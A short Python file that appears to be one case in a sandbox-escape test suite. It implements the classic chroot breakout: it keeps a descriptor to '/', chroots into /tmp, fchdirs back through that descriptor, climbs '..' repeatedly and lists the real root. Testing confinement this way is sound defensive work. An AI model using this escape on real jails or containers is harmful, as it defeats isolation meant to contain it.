from attack import *

@attack
def change():
    """With a root below the folder it is in, `..` has no end."""

    def leave():
        here = os.open("/", os.O_RDONLY)
        os.chroot("/tmp")
        os.fchdir(here)
        for _ in range(20):
            os.chdir("..")
        return " ".join(os.listdir("."))

    return in_child(leave)
